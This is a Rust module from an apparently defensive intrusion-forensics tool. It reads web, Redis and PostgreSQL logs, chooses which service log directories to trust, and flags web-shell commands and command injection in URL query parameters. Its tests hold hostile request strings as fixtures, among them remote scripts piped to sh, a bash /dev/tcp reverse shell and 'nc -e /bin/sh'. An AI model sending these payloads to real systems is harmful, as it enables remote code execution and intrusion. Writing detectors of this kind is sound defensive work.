//! What network services logged about their clients ([`HostModel::service_logs`]): the lines of the
//! captured logs whose format [`crate::parse::service_log::sniff`] recognises (Redis, web access logs,
//! PostgreSQL), in file order, the lines that matter to how an attacker got in. Read by the service-log
//! detectors and the entry-point inference; neither opens a log itself.
//!
//! Logs are read under `/var/log` and under the log directories of the running services themselves
//! ([`service_log_dirs`]): an application server under `/opt` (Tomcat, Confluence, WebLogic) writes its
//! access log below its own base directory, never under `/var/log`. A directory only a process's command
//! line or working directory names counts when the host's accounts and files make it the service's, so
//! an intruder's process cannot point the entry inference at a log it wrote.
//!
//! Auth logs and journals have their own fact ([`super::auth`]); a log in another format is skipped.

use std::sync::Arc;

use super::HostModel;
use crate::indicators::{Indicators, Kind};
use crate::parse::service_log::{self, LogFormat, LogLine};

/// Lines kept over all service logs; a shaped bundle cannot make the list unbounded.
pub const MAX_LINES: usize = 100_000;

/// One line that matters, with the log it was read from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ServiceLogLine {
    /// The captured log's path (shared by its lines).
    pub path: Arc<[u8]>,
    pub format: LogFormat,
    pub log: LogLine,
}

impl ServiceLogLine {
    /// `path:line`, escaped, for evidence lines.
    pub fn location(&self) -> String {
        format!(
            "{}:{}",
            minetrace_schemas::escape_bytes(&self.path),
            self.log.line
        )
    }
}

/// `%xx` and `+` decoded.
pub fn percent_decode(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while let Some(&b) = s.get(i) {
        let hex = |o: usize| s.get(i + o).and_then(|c| (*c as char).to_digit(16));
        match (b, hex(1), hex(2)) {
            (b'%', Some(h), Some(l)) => {
                out.push(u8::try_from(h * 16 + l).unwrap_or(b'?'));
                i += 3;
            }
            (b'+', _, _) => {
                out.push(b' ');
                i += 1;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    out
}

/// A request target's path, decoded, without its query.
pub fn request_path(target: &[u8]) -> Vec<u8> {
    percent_decode(target.split(|b| *b == b'?').next().unwrap_or(target))
}

/// A request's query values, decoded.
fn query_values(target: &[u8]) -> impl Iterator<Item = Vec<u8>> + '_ {
    target
        .splitn(2, |b| *b == b'?')
        .nth(1)
        .into_iter()
        .flat_map(|query| query.split(|b| *b == b'&'))
        .map(|kv| percent_decode(kv.splitn(2, |b| *b == b'=').nth(1).unwrap_or(kv)))
}

/// The first query value of a request that is a shell command (decoded), as a web shell takes one: it
/// starts with a program and does a download, a decode into a shell, a bash socket, or runs a shell or
/// downloader (`shell_or_downloader`). A value that starts with data and appends commands after a
/// separator (`127.0.0.1;wget ...|sh`) is an injection into the application's own command
/// ([`request_injection`]), not a web shell.
pub fn request_command(target: &[u8], iocs: &Indicators) -> Option<Vec<u8>> {
    query_values(target).find(|v| !data_first(v, iocs) && reads_as_command(v, iocs))
}

/// Whether a value (not [`data_first`]) is a web shell's command: a download, a decode into a shell, a
/// bash socket, a shell or downloader given an option or a path, or a command line (`ls -la`, `id`)
/// followed by commands that name [`RECON_MIN_ITEMS`] discovery items (`ls -la;id;uname -a`).
fn reads_as_command(v: &[u8], iocs: &Indicators) -> bool {
    let line = crate::parse::shell_line::analyze(v);
    let shell = line
        .commands
        .iter()
        .any(|c| std::str::from_utf8(c).is_ok_and(|c| iocs.contains(Kind::ShellOrDownloader, c)));
    // A shell or downloader given an option or a path: a command, not a search for "bash
    // tutorial" nor "bash scripting; python | perl" (words in a sequence are still words).
    let invoked = crate::parse::words(v)
        .skip(1)
        .any(|w| w.starts_with(b"-") || w.contains(&b'/'));
    let p = pieces(v);
    // `ls -la`, `id`: a program with only options and paths; "who is last" is words.
    let command_line = p.first().is_some_and(|first| {
        !first.is_empty()
            && crate::parse::words(first)
                .skip(1)
                .all(|w| w.starts_with(b"-") || w.contains(&b'/'))
    });
    line.download
        || line.download_to_shell
        || line.decode_to_shell
        || line.dev_tcp
        || (shell && invoked)
        || (p.len() > 1 && command_line && recon_items(&p, iocs).len() >= RECON_MIN_ITEMS)
}

/// The distinct discovery items pieces of a value name, in order: a piece's program when it is a
/// `recon_command`, and every word that is a `recon_file` (`id`, `uname`, `/etc/passwd`).
fn recon_items(pieces: &[&[u8]], iocs: &Indicators) -> Vec<String> {
    let mut recon: Vec<String> = Vec::new();
    for piece in pieces {
        let mut words = crate::parse::words(piece).peekable();
        let program = words
            .peek()
            .map(|first| String::from_utf8_lossy(crate::parse::basename(first)).into_owned());
        for w in words {
            let w = String::from_utf8_lossy(w).into_owned();
            if iocs.contains(Kind::ReconFile, &w) && !recon.contains(&w) {
                recon.push(w);
            }
        }
        if let Some(name) = program {
            if iocs.contains(Kind::ReconCommand, &name) && !recon.contains(&name) {
                recon.push(name);
            }
        }
    }
    recon
}

/// Distinct discovery items (`recon_command` programs, `recon_file` paths) that make a command text ask
/// who and where it runs: `id; uname -a; cat /etc/passwd` names three, a field list `name;id;email` one.
/// Read for a network service's shell (`MT-RUN-036`) and a request's injected commands
/// ([`request_injection`]).
pub const RECON_MIN_ITEMS: usize = 2;

/// Bytes that end one shell command and start another inside a parameter: what a command injection
/// appends its commands after (`;`, `|`, `&`, `||`, `&&`, a backquote, `$(`, a newline).
const SEPARATORS: &[u8] = b";|&`\n\r()";

/// What a request injected into a parameter the application hands to a shell ([`request_injection`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Injection {
    /// The parameter's value, decoded.
    pub value: Vec<u8>,
    /// What its injected commands do, as named for evidence: discovery items (`id`, `/etc/passwd`),
    /// programs of a kit's first moves (`pkill`, `nc`), `download`.
    pub found: Vec<String>,
}

/// Whether a command word (a program's basename) is a program a command injection or a web shell runs:
/// a shell, interpreter or downloader, a network-capable or host-changing tool, a discovery command.
fn is_command_word(word: &[u8], iocs: &Indicators) -> bool {
    let name = String::from_utf8_lossy(crate::parse::basename(word));
    crate::parse::shell_line::is_interpreter(name.as_bytes())
        || [
            Kind::ShellOrDownloader,
            Kind::Interpreter,
            Kind::ReconCommand,
            Kind::ProxyTool,
            Kind::SshClient,
        ]
        .into_iter()
        .any(|k| iocs.contains(k, &name))
        || [Kind::NetworkTool, Kind::HostChangingTool]
            .into_iter()
            .any(|k| iocs.names_tool(k, &name))
}

/// A value cut at its [`SEPARATORS`]: its pieces, trimmed, the first kept even when empty (a value
/// that starts with a separator appends to the application's own text).
fn pieces(value: &[u8]) -> Vec<&[u8]> {
    let mut out: Vec<&[u8]> = value
        .split(|b| SEPARATORS.contains(b))
        .map(<[u8]>::trim_ascii)
        .collect();
    let first = out.first().copied().unwrap_or_default();
    out.retain(|p| !p.is_empty());
    if first.is_empty() {
        out.insert(0, first);
    }
    out
}

/// Whether a value is data followed by commands: it holds a separator, and what comes before the first
/// is data an application passes on: one word (an address, a number, a file name, an e-mail, a path)
/// that is no program of [`is_command_word`]. A command line before it (`cd /tmp`, `echo <b64>`,
/// `ls -la`: a program, or words with blanks between) is a web shell's command ([`request_command`]).
fn data_first(value: &[u8], iocs: &Indicators) -> bool {
    let p = pieces(value);
    p.len() > 1
        && p.first().is_some_and(|first| {
            let mut words = crate::parse::words(first);
            match (words.next(), words.next()) {
                (Some(w), None) => !is_command_word(w, iocs),
                _ => false,
            }
        })
}

/// Whether a value is injection-shaped ([`request_injection`]): [`data_first`], or commands after a
/// leading separator (`;id;hostname`, appended to the application's own text) that are no web shell's
/// command ([`reads_as_command`]: `;curl ...|sh` is one).
fn injection_shaped(value: &[u8], iocs: &Indicators) -> bool {
    let p = pieces(value);
    data_first(value, iocs)
        || (p.len() > 1
            && p.first().is_some_and(|f| f.is_empty())
            && !reads_as_command(value, iocs))
}

/// The first query value of a request that injects shell commands into what the application runs with
/// it (`?host=127.0.0.1;id;uname -a`, `?file=a.jpg;wget http://...|sh`): data, a separator, then
/// commands that ask who and where they run ([`RECON_MIN_ITEMS`] distinct discovery items or more), or
/// that download, open a bash socket, or run a shell, interpreter, downloader, network-capable or
/// host-changing program with an option or a path (`;pkill -x kdevtmpfsi`, `;nc -e /bin/sh ...`). A
/// field list (`name;id;email`), a search (`tom & jerry`, `bash scripting; python`) or a date range is
/// none: one discovery word, or a program named with nothing to run.
pub fn request_injection(target: &[u8], iocs: &Indicators) -> Option<Injection> {
    query_values(target).find_map(|value| {
        if !injection_shaped(&value, iocs) {
            return None;
        }
        let commands: Vec<&[u8]> = pieces(&value).into_iter().skip(1).collect();
        let mut recon = recon_items(&commands, iocs);
        let mut moves: Vec<String> = Vec::new();
        for piece in commands {
            let mut words = crate::parse::words(piece);
            let Some(first) = words.next() else {
                continue;
            };
            let rest: Vec<&[u8]> = words.collect();
            let name = String::from_utf8_lossy(crate::parse::basename(first)).into_owned();
            // Discovery programs are counted as recon items above.
            if !iocs.contains(Kind::ReconCommand, &name)
                && is_command_word(first, iocs)
                && rest
                    .iter()
                    .any(|w| w.starts_with(b"-") || w.contains(&b'/'))
                && !moves.contains(&name)
            {
                moves.push(name);
            }
        }
        let line = crate::parse::shell_line::analyze(&value);
        if line.download || line.dev_tcp || line.decode_to_shell {
            moves.push("download".into());
        }
        if recon.len() < RECON_MIN_ITEMS && moves.is_empty() {
            return None;
        }
        recon.extend(moves);
        Some(Injection {
            value,
            found: recon,
        })
    })
}

/// JVM system properties naming the base or home directory an application server writes its `logs/`
/// under (Tomcat and Confluence's `catalina.base`/`catalina.home`, Jetty's, WebLogic's domain home).
const BASE_PROPERTIES: &[&[u8]] = &[
    b"-Dcatalina.base=",
    b"-Dcatalina.home=",
    b"-Djetty.base=",
    b"-Djetty.home=",
    b"-Dweblogic.home=",
    b"-Ddomain.home=",
];

/// Log directory names below a service's base or working directory.
const LOG_SUBDIRS: &[&[u8]] = &[b"logs/", b"log/"];

/// The log directories of the host's services: `logs/` and `log/` below each service's base directory.
///
/// Bases come first from the services' units ([`unit_bases`]: the `WorkingDirectory=` and the
/// `..._BASE=`/`..._HOME=` environment a root-owned system unit gives its service), then from the
/// running processes: a working directory, or a base its command line names ([`BASE_PROPERTIES`]).
/// A command line and a working directory are text the process's owner chose, and an intruder's process
/// chooses them too (`-Dcatalina.base=/tmp/x` makes `/tmp/x/logs/` look like Tomcat's, and a log crafted
/// there could tell the entry inference any story). So such a base counts only where the host's own
/// facts make it the service's: the process runs as a system account ([`super::accounts::Accounts::
/// system_account`]: not root, which owns everything, nor a login user), and the base is that account's
/// (inside its home directory: Debian's Tomcat runs in `/var/lib/tomcat9`, a hand-installed one in
/// `/opt/tomcat`) or the installation the process's own program runs from, a program root owns
/// (Confluence's `/opt/atlassian/confluence/jre/bin/java`). No base has a hidden component. Everything
/// else is read only under `/var/log`.
pub fn service_log_dirs(model: &HostModel) -> Vec<Vec<u8>> {
    let units = unit_bases(model);
    let mut bases: Vec<&[u8]> = units.iter().map(Vec::as_slice).collect();
    for p in &model.processes {
        let Some(account) = model.accounts.system_account(p.uid.real) else {
            continue;
        };
        let cwd = p.cwd.as_ref().map(|c| c.as_bytes());
        let named = p.argv().into_iter().filter_map(|a| {
            BASE_PROPERTIES
                .iter()
                .find_map(|prop| a.strip_prefix(*prop))
        });
        let program = p
            .exe
            .as_ref()
            .map(|e| e.path.as_bytes())
            .filter(|exe| model.file(exe).is_some_and(|f| f.uid == 0));
        let home = account.home.strip_suffix(b"/").unwrap_or(&account.home);
        for base in cwd.into_iter().chain(named) {
            let base = base.strip_suffix(b"/").unwrap_or(base);
            let its_own = (home.len() > 1 && (base == home || below(base, home)))
                || program.is_some_and(|exe| below(exe, base));
            if its_own && usable_base(base) && !bases.contains(&base) {
                bases.push(base);
            }
        }
    }
    let mut out = Vec::new();
    for base in bases {
        for sub in LOG_SUBDIRS {
            let mut dir = base.to_vec();
            dir.push(b'/');
            dir.extend_from_slice(sub);
            if !out.contains(&dir) {
                out.push(dir);
            }
        }
    }
    out
}

/// Whether `path` lies below the directory `dir`.
fn below(path: &[u8], dir: &[u8]) -> bool {
    path.starts_with(dir) && path.get(dir.len()) == Some(&b'/')
}

/// An absolute directory other than the root, with no hidden component (a service's base never is).
fn usable_base(base: &[u8]) -> bool {
    base.len() > 1
        && base.starts_with(b"/")
        && !base.split(|b| *b == b'/').any(|c| c.starts_with(b"."))
}

/// Base directories root-owned system units give their services: `WorkingDirectory=`, and environment
/// assignments named `..._BASE` or `..._HOME` (`CATALINA_BASE=/opt/tomcat`, `JETTY_HOME=...`).
fn unit_bases(model: &HostModel) -> Vec<Vec<u8>> {
    use crate::parse::systemd_unit::{split_quoted, Unit, HOME_UNIT_DIRS};
    let mut out: Vec<Vec<u8>> = Vec::new();
    let units = model.persistence_files(|k| k == super::persistence::PersistenceKind::Systemd);
    for (file, bytes, _) in units {
        let path = file.path.as_bytes();
        if file.uid != 0
            || HOME_UNIT_DIRS
                .iter()
                .any(|d| crate::parse::contains(path, d))
        {
            continue;
        }
        let unit = Unit::parse(bytes);
        // `WorkingDirectory=-/x` tolerates a missing directory; `~` is the user's home, not a base.
        let dirs = unit
            .all("Service", "WorkingDirectory")
            .map(|e| e.value.strip_prefix(b"-").unwrap_or(&e.value).to_vec());
        let env = unit
            .all("Service", "Environment")
            .flat_map(|e| split_quoted(&e.value))
            .filter_map(|assignment| {
                let eq = assignment.iter().position(|b| *b == b'=')?;
                let name = assignment.get(..eq)?;
                (name.ends_with(b"_BASE") || name.ends_with(b"_HOME"))
                    .then(|| assignment.get(eq + 1..).map(<[u8]>::to_vec))
                    .flatten()
            });
        for dir in dirs.chain(env) {
            let dir = dir.strip_suffix(b"/").unwrap_or(&dir).to_vec();
            if usable_base(&dir) && !out.contains(&dir) && out.len() < 256 {
                out.push(dir);
            }
        }
    }
    out
}

/// Whether a captured file is read as a service log: a regular file under `/var/log/` or a running
/// service's log directory that is not an auth log or a journal.
fn candidate(path: &[u8], dirs: &[Vec<u8>]) -> bool {
    let name = crate::parse::basename(path);
    (path.starts_with(b"/var/log/") || dirs.iter().any(|d| path.starts_with(d)))
        && !super::auth::is_auth_log(path)
        && !name.ends_with(b".journal")
        && !name.ends_with(b".journal~")
}

pub fn collect(model: &HostModel) -> Vec<ServiceLogLine> {
    let mut out = Vec::new();
    let dirs = service_log_dirs(model);
    for f in model
        .regular_files()
        .filter(|f| candidate(f.path.as_bytes(), &dirs))
    {
        let Some(bytes) = model.content(f) else {
            continue;
        };
        let Some(format) = service_log::sniff(bytes) else {
            continue;
        };
        let path: Arc<[u8]> = Arc::from(f.path.as_bytes());
        for log in service_log::parse(format, bytes) {
            if out.len() >= MAX_LINES {
                return out;
            }
            out.push(ServiceLogLine {
                path: Arc::clone(&path),
                format,
                log,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::service_log_dirs;
    use crate::model::fixture;
    use crate::parse::service_log::{LogEvent, LogFormat};
    use minetrace_schemas::records::file::FileRecord;
    use minetrace_schemas::records::process::ProcessRecord;

    type File = (FileRecord, Option<Vec<u8>>);

    const ACCESS: &[u8] =
        b"10.12.0.31 - - [10/Jun/2025:10:58:40 +0000] \"GET /index.jsp HTTP/1.1\" 200 143\n\
203.0.113.88 - - [10/Jun/2025:11:02:16 +0000] \"GET /mgmt/cmd.jsp?c=id HTTP/1.1\" 200 38\n";

    const PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/bash\n\
tomcat:x:997:997:Apache Tomcat:/opt/tomcat:/usr/sbin/nologin\n\
confluence:x:996:996:Atlassian Confluence:/var/atlassian/application-data/confluence:/bin/bash\n\
admin:x:1000:1000:Admin:/home/admin:/bin/bash\n";

    fn java(pid: i32, uid: u32, exe: &[u8], base: &[u8]) -> ProcessRecord {
        let property = [&b"-Dcatalina.base="[..], base].concat();
        fixture::process(
            pid,
            1,
            uid,
            exe,
            &[
                exe,
                property.as_slice(),
                &b"org.apache.catalina.startup.Bootstrap"[..],
                &b"start"[..],
            ],
        )
    }

    fn read_logs(files: Vec<File>, processes: Vec<ProcessRecord>) -> Vec<Vec<u8>> {
        let mut logs: Vec<Vec<u8>> = fixture::model_with_processes(files, vec![], processes)
            .service_logs
            .iter()
            .map(|l| l.path.to_vec())
            .collect();
        logs.dedup();
        logs
    }

    #[test]
    fn an_application_servers_own_logs_are_read() {
        let files = || {
            vec![
                fixture::file(b"/etc/passwd", Some(PASSWD)),
                fixture::file(
                    b"/opt/tomcat/logs/localhost_access_log.2025-06-10.txt",
                    Some(ACCESS),
                ),
                fixture::file(b"/srv/app/data/access.log", Some(ACCESS)),
                fixture::file(b"/opt/atlassian/confluence/jre/bin/java", Some(b"\x7fELF")),
                fixture::file(
                    b"/opt/atlassian/confluence/logs/conf_access_log.2025-06-10.log",
                    Some(ACCESS),
                ),
            ]
        };
        // Tomcat in its account's home; Confluence in the installation its root-owned java runs from.
        let tomcat = java(700, 997, b"/usr/lib/jvm/java-17/bin/java", b"/opt/tomcat");
        let confluence = java(
            800,
            996,
            b"/opt/atlassian/confluence/jre/bin/java",
            b"/opt/atlassian/confluence",
        );
        assert_eq!(
            read_logs(files(), vec![tomcat, confluence]),
            vec![
                b"/opt/tomcat/logs/localhost_access_log.2025-06-10.txt".to_vec(),
                b"/opt/atlassian/confluence/logs/conf_access_log.2025-06-10.log".to_vec()
            ]
        );
        // Without the service running, nothing says the directory is a service's.
        assert!(fixture::model(files(), vec![]).service_logs.is_empty());
    }

    /// A root-owned system unit names its service's base (`WorkingDirectory=`, `CATALINA_BASE=`): its
    /// logs are read whether or not the service runs; a user's own unit names nothing.
    #[test]
    fn units_name_their_services_bases() {
        let mut user_unit = fixture::file(
            b"/home/admin/.config/systemd/user/app.service",
            Some(b"[Service]\nWorkingDirectory=/tmp/u\nExecStart=/usr/bin/true\n"),
        );
        user_unit.0.uid = 1000;
        let files = vec![
            fixture::file(
                b"/etc/systemd/system/tomcat.service",
                Some(b"[Service]\nUser=tomcat\nWorkingDirectory=-/srv/tomcat/\nEnvironment=\"CATALINA_BASE=/srv/catalina\" JAVA_OPTS=-Xmx1g\nEnvironment=CATALINA_HOME=/opt/.t\nExecStart=/srv/tomcat/bin/catalina.sh run\n"),
            ),
            user_unit,
            fixture::file(b"/srv/catalina/logs/localhost_access_log.2025-06-10.txt", Some(ACCESS)),
            fixture::file(b"/tmp/u/logs/access.log", Some(ACCESS)),
        ];
        let model = fixture::model(files.clone(), vec![]);
        assert_eq!(
            service_log_dirs(&model),
            vec![
                b"/srv/tomcat/logs/".to_vec(),
                b"/srv/tomcat/log/".to_vec(),
                b"/srv/catalina/logs/".to_vec(),
                b"/srv/catalina/log/".to_vec()
            ]
        );
        assert_eq!(
            read_logs(files, vec![]),
            vec![b"/srv/catalina/logs/localhost_access_log.2025-06-10.txt".to_vec()]
        );
    }

    /// An intruder's process names a base directory (or runs in one) holding a log it wrote: as root, as
    /// a login user, as the service's own account in a temporary or hidden place, or with a program of its
    /// own under that base. None of those logs is read; the same lines under `/var/log` are.
    #[test]
    fn a_base_only_an_intruders_command_line_names_is_not_a_service_log_dir() {
        let crafted = [
            &b"/tmp/x/logs/localhost_access_log.2025-06-10.txt"[..],
            b"/home/admin/app/logs/access.log",
            b"/opt/tomcat/.cache/logs/access.log",
            b"/opt/kit/logs/access.log",
        ];
        let mut files: Vec<File> = crafted
            .iter()
            .map(|p| fixture::file(p, Some(ACCESS)))
            .collect();
        files.push(fixture::file(b"/etc/passwd", Some(PASSWD)));
        let mut kit = fixture::file(b"/opt/kit/bin/java", Some(b"\x7fELF"));
        kit.0.uid = 997;
        files.push(kit);
        let mut hidden = java(703, 997, b"/usr/bin/java", b"/opt/tomcat");
        hidden.cwd = Some(b"/opt/tomcat/.cache".as_slice().into());
        let processes = vec![
            java(701, 0, b"/tmp/x/java", b"/tmp/x"),
            java(702, 1000, b"/usr/bin/java", b"/home/admin/app"),
            java(704, 997, b"/usr/bin/java", b"/tmp/x"),
            hidden,
            java(705, 997, b"/opt/kit/bin/java", b"/opt/kit"),
        ];
        assert!(service_log_dirs(&fixture::model_with_processes(
            files.clone(),
            vec![],
            processes.clone()
        ))
        .iter()
        .all(|d| d == b"/opt/tomcat/logs/" || d == b"/opt/tomcat/log/"),);
        assert_eq!(read_logs(files, processes.clone()), Vec::<Vec<u8>>::new());
        let var_log = vec![
            fixture::file(b"/etc/passwd", Some(PASSWD)),
            fixture::file(
                b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt",
                Some(ACCESS),
            ),
        ];
        assert_eq!(
            read_logs(var_log, processes),
            vec![b"/var/log/tomcat9/localhost_access_log.2025-06-10.txt".to_vec()]
        );
    }

    #[test]
    fn logs_recognised_by_their_lines_wherever_they_are() {
        let model = fixture::model(
            vec![
                fixture::file(
                    b"/var/log/app/custom-redis.log",
                    Some(b"9:M 02 Jun 2025 14:07:14.503 * Module 'system' loaded from /tmp/exp.so\n9:M 02 Jun 2025 14:07:15.000 * DB saved on disk\n"),
                ),
                fixture::file(
                    b"/var/log/auth.log",
                    Some(b"Jan  1 00:00:01 h sshd[9]: Accepted password for root from 10.0.0.9 port 22 ssh2\n"),
                ),
                fixture::file(b"/etc/redis/redis.log", Some(b"9:M 02 Jun 2025 14:07:14.503 * Module 'x' loaded from /tmp/y.so\n9:M 02 Jun 2025 14:07:14.503 * x\n")),
            ],
            vec![],
        );
        assert_eq!(model.service_logs.len(), 1);
        let l = &model.service_logs[0];
        assert_eq!(l.format, LogFormat::Redis);
        assert!(
            matches!(&l.log.event, LogEvent::RedisModuleLoaded { name, .. } if name == "system")
        );
        assert_eq!(l.location(), "/var/log/app/custom-redis.log:1");
    }

    #[test]
    fn commands_in_requests() {
        let iocs = crate::indicators::Indicators::builtin();
        let cmd = super::request_command(
            b"/mgmt/cmd.jsp?x=1&c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh",
            &iocs,
        );
        assert_eq!(
            cmd.as_deref(),
            Some(&b"curl -fsSL http://203.0.113.88/t.sh|sh"[..])
        );
        assert!(super::request_command(b"/shell.php?cmd=bash+-i", &iocs).is_some());
        assert!(
            super::request_command(b"/search?q=shell+scripting+tutorial&page=2", &iocs).is_none()
        );
        assert!(super::request_command(b"/products/7", &iocs).is_none());
        // Command words in a search, even in a sequence or a pipeline, are words.
        assert!(super::request_command(
            b"/wp-json/wp/v2/posts?search=bash+scripting%3B+python+%7C+perl",
            &iocs
        )
        .is_none());
        // Review of train 2, item 6: a web shell's command line before a separator, or a leading
        // separator before a download, is a web shell's command, not an injection.
        for shell in [
            &b"/up/shell.php?c=cd+/tmp%3Bwget+http://x.example/a%3Bchmod+%2Bx+a%3B./a"[..],
            b"/up/shell.php?c=echo+ZWNobyBoaQ%3D%3D%7Cbase64+-d%7Cbash",
            b"/up/shell.php?c=ls+-la%3Bid%3Buname+-a",
            b"/up/shell.php?c=%3Bcurl+-s+http://x.example/a%7Csh",
            b"/up/shell.php?c=id%3Buname+-a",
        ] {
            assert!(
                super::request_command(shell, &iocs).is_some(),
                "{}",
                String::from_utf8_lossy(shell)
            );
            assert!(
                super::request_injection(shell, &iocs).is_none(),
                "{}",
                String::from_utf8_lossy(shell)
            );
        }
        // Data, then commands: an injection into the page's own command, not a web shell.
        assert!(super::request_command(
            b"/status.php?host=127.0.0.1%3Bwget+http://x.example/a%7Csh",
            &iocs
        )
        .is_none());
        assert_eq!(
            super::request_path(b"/a%20b/x.php?c=id"),
            b"/a b/x.php".to_vec()
        );
    }

    /// Command injection in a request parameter (the lead's session-6 task for detect3): data, a
    /// separator, then discovery or a kit's first moves. Look-alikes — field lists, searches with
    /// command words, encoded punctuation, date ranges, a web shell's own command — are none.
    #[test]
    fn command_injection_in_a_parameter_is_data_then_commands() {
        let iocs = crate::indicators::Indicators::builtin();
        let found = |t: &[u8]| super::request_injection(t, &iocs).map(|i| i.found);
        assert_eq!(
            found(b"/status.php?host=127.0.0.1%3Bid%3Buname%20-a%3Bcat%20/etc/passwd%3Bwhoami%3Bsleep%20900"),
            Some(vec![
                "id".to_owned(),
                "uname".into(),
                "/etc/passwd".into(),
                "whoami".into()
            ])
        );
        for attack in [
            &b"/status.php?host=127.0.0.1;wget+http://x.example/a|sh"[..],
            b"/theme.php?dir=/var/www/shop/theme%3Bpkill%20-x%20kdevtmpfsi%3Bchattr%20-i%20/etc/ld.so.preload",
            b"/img.php?f=a.jpg%3Bnc%20-e%20/bin/sh%20203.0.113.9%204444",
            b"/ping.php?ip=%3Bid%3Bhostname",
            b"/ping.php?ip=1.1.1.1%60id%60%24(uname%20-a)",
            b"/x.cgi?a=1&name=x%7C%7Cbash%20-i%20%3E%26%20/dev/tcp/203.0.113.9/4444%200%3E%261",
        ] {
            assert!(found(attack).is_some(), "{}", String::from_utf8_lossy(attack));
        }
        for benign in [
            &b"/api/users?fields=name;id;email"[..],
            b"/search?q=tom+%26+jerry",
            b"/search?q=linux+bash+scripting%3B+python",
            b"/search?q=how+to+use+uname+-a+and+id",
            b"/search?q=who+is+last%3Bhostname",
            b"/report?range=2025-01-01%7C2025-02-01",
            b"/page?title=Caf%C3%A9+%26+Bar%3B+Grill",
            b"/mgmt/cmd.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh",
            b"/uploads/a.phtml?c=id",
            b"/products/7",
        ] {
            assert_eq!(found(benign), None, "{}", String::from_utf8_lossy(benign));
        }
    }
}
